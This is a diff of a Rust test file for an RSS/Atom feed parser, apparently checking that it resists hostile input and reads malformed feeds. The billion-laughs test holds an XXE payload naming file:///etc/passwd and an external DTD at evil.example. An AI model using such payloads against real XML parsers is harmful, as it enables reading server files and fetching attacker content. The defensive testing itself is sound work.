@@ -80,7 +80,9 @@ fn a_billion_laughs_fall_flat() {
         let inner = format!("&lol{};", n - 1).repeat(10);
         bomb.push_str(&format!("<!ENTITY lol{n} \"{inner}\">"));
     }
-    bomb.push_str("<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>");
+    bomb.push_str(
+        "<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>",
+    );
     bomb.push_str("<rss version=\"2.0\"><channel><title>&lol9;</title><item><title>a &lol9; b &xxe; c</title></item></channel></rss>");
     let reading = read_text(&bomb).unwrap();
     assert_eq!(reading.title, "&lol9;");
@@ -88,7 +90,8 @@ fn a_billion_laughs_fall_flat() {
     assert_eq!(reading.warnings, ["the document declares its own entities; they were not expanded"]);
 }
 
-/// Hostile documents of ten megabytes must be done with quickly, even in an unoptimised build on a busy machine.
+/// Hostile documents must be done with in time proportional to their size, even in an unoptimised build on a busy machine:
+/// one that takes quadratic time needs hours for these.
 #[test]
 fn size_alone_does_not_hurt() {
     const BYTES: usize = 2_000_000;
@@ -116,6 +119,7 @@ fn size_alone_does_not_hurt() {
         let outcome = read_text(&document);
         let took = begun.elapsed();
         assert!(took < Duration::from_secs(20), "{name} took {took:?}");
+        println!("{name}: {took:?}");
         if let Err(found) = outcome {
             let line = found.to_string();
             assert!(!line.contains('\n') && line.len() < 600, "{name}: {line}");
@@ -155,9 +159,11 @@ fn other_documents_are_named() {
 fn bounds_hold() {
     let title = "t".repeat(2 * TITLE_CHARS_MAX);
     let summary = "s".repeat(2 * SUMMARY_CHARS_MAX);
-    let categories: String = (0..50).map(|n| format!("<category>{}</category>", format!("c{n:03}").repeat(40))).collect();
+    let categories: String =
+        (0..50).map(|n| format!("<category>{}</category>", format!("c{n:03}").repeat(40))).collect();
     let id = "i".repeat(1_000);
-    let one = format!("<item><title>{title}</title><guid>{id}</guid><description>{summary}</description>{categories}</item>");
+    let one =
+        format!("<item><title>{title}</title><guid>{id}</guid><description>{summary}</description>{categories}</item>");
     let many: String = (0..700).map(|n| format!("<item><title>n{n}</title></item>")).collect();
     let reading = read_text(&format!("<rss><channel>{one}{many}</channel></rss>")).unwrap();
     assert_eq!(reading.items.len(), 500);
@@ -174,15 +180,30 @@ fn bounds_hold() {
 fn wild_but_honest_feeds_are_read() {
     for (feed, title) in [
         ("<rss><channel><item><title>No version</title></item></channel></rss>", "No version"),
-        ("<rss version='2.00' xmlns='http://backend.userland.com/rss2'><channel><item><title>Old home</title></item></channel></rss>", "Old home"),
+        (
+            "<rss version='2.00' xmlns='http://backend.userland.com/rss2'><channel><item><title>Old home</title></item></channel></rss>",
+            "Old home",
+        ),
         ("<rss><item><title>No channel</title></item></rss>", "No channel"),
         ("<rss><channel><item><title>R&D at AT&T</title></item></channel></rss>", "R&D at AT&T"),
         ("<rss><channel><item><title>Raw <b>mark</b>up &lt; text</title></item></channel></rss>", "Raw markup < text"),
-        ("<feed version='0.3' xmlns='http://purl.org/atom/ns#'><entry><title mode='escaped' type='text/html'>&lt;i&gt;Old&lt;/i&gt; Atom</title><issued>2004-01-01T00:00:00Z</issued></entry></feed>", "Old Atom"),
+        (
+            "<feed version='0.3' xmlns='http://purl.org/atom/ns#'><entry><title mode='escaped' type='text/html'>&lt;i&gt;Old&lt;/i&gt; Atom</title><issued>2004-01-01T00:00:00Z</issued></entry></feed>",
+            "Old Atom",
+        ),
         ("<entry xmlns='http://www.w3.org/2005/Atom'><title>One entry</title><id>x</id></entry>", "One entry"),
-        ("\u{feff}\n\n<?xml version='1.0'?><rss><channel><item><dc:title>Undeclared prefix</dc:title></item></channel></rss>", "Undeclared prefix"),
-        ("<rss xml:base='http://['><channel><item xml:base='::'><title>Bad base</title></item></channel></rss>", "Bad base"),
-        ("<rss><channel><item><title>Bad number &#0; &#x110000; &#xD800;</title></item></channel></rss>", "Bad number \u{FFFD} \u{FFFD} \u{FFFD}"),
+        (
+            "\u{feff}\n\n<?xml version='1.0'?><rss><channel><item><dc:title>Undeclared prefix</dc:title></item></channel></rss>",
+            "Undeclared prefix",
+        ),
+        (
+            "<rss xml:base='http://['><channel><item xml:base='::'><title>Bad base</title></item></channel></rss>",
+            "Bad base",
+        ),
+        (
+            "<rss><channel><item><title>Bad number &#0; &#x110000; &#xD800;</title></item></channel></rss>",
+            "Bad number \u{FFFD} \u{FFFD} \u{FFFD}",
+        ),
     ] {
         let reading = read_text(feed).unwrap_or_else(|found| panic!("{feed}: {found}"));
         assert_eq!(reading.items[0].title, title, "{feed}");
@@ -191,7 +212,11 @@ fn wild_but_honest_feeds_are_read() {
 
 #[test]
 fn an_edited_item_is_a_new_event_and_a_repeated_one_is_not_listed_twice() {
-    let feed = |second: &str| format!("<rss><channel><item><guid>1</guid><title>A</title></item><item><guid>1</guid><title>{second}</title></item></channel></rss>");
+    let feed = |second: &str| {
+        format!(
+            "<rss><channel><item><guid>1</guid><title>A</title></item><item><guid>1</guid><title>{second}</title></item></channel></rss>"
+        )
+    };
     assert_eq!(read_text(&feed("A")).unwrap().items.len(), 1);
     assert_eq!(read_text(&feed("A!")).unwrap().items.len(), 2);
 }
